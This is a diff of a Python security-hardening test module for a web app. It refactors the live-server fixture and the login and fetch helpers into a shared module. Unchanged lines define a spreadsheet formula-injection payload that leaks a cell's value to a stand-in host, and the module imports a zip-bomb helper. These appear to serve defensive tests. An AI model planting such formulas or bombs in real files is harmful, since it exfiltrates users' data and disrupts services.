@@ -6,11 +6,9 @@ history paged (item 10)."""
 
 from __future__ import annotations
 
-import http.client
 import io
 import re
 from pathlib import Path
-from urllib.parse import urlencode
 
 import pytest
 from openpyxl import load_workbook
@@ -18,8 +16,8 @@ from sqlalchemy import create_engine, text
 from werkzeug.datastructures import FileStorage, MultiDict
 from werkzeug.test import encode_multipart
 
-from scripts.liveserver import LiveServer
 from tests.support.accounts import PASSWORD
+from tests.support.live_web import fetch, live_server, web_login
 from tests.support.spreadsheets import zip_bomb
 
 LEAK = '=HYPERLINK("http://x/?leak="&C5,"a")'
@@ -27,36 +25,11 @@ LEAK = '=HYPERLINK("http://x/?leak="&C5,"a")'
 
 @pytest.fixture(scope="module")
 def server(databases, template_db, tmp_path_factory):
-    url = databases.create(template=template_db)
-    live = LiveServer(
-        url, tmp_path_factory.mktemp("hardening"), workers=1, threads=2, env={"TDKT_HTTPS": "1"}
-    )
-    live.start()
-    yield live
-    live.stop()
-    databases.drop(url)
-
-
-def fetch(server, method: str, path: str, body=None, headers=None):
-    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
-    try:
-        conn.request(method, path, body=body, headers=headers or {})
-        response = conn.getresponse()
-        return response, response.read()
-    finally:
-        conn.close()
-
-
-def web_login(server, username: str) -> str:
-    """The session cookie, carried by hand: it is Secure, and the test speaks plain HTTP."""
-    response, page = fetch(server, "GET", "/login")
-    cookie = response.getheader("Set-Cookie").split(";", 1)[0]
-    token = re.search(rb'name="csrf_token"[^>]*value="([^"]+)"', page).group(1).decode()
-    form = urlencode({"username": username, "password": PASSWORD, "csrf_token": token})
-    headers = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}
-    response, _ = fetch(server, "POST", "/login", form, headers)
-    assert response.status == 302, response.status
-    return response.getheader("Set-Cookie").split(";", 1)[0]
+    # TDKT_HTTPS=1 as behind the README's reverse proxy
+    with live_server(
+        databases, template_db, tmp_path_factory.mktemp("hardening"), env={"TDKT_HTTPS": "1"}
+    ) as live:
+        yield live
 
 
 def test_headers_of_a_server_behind_https(server):
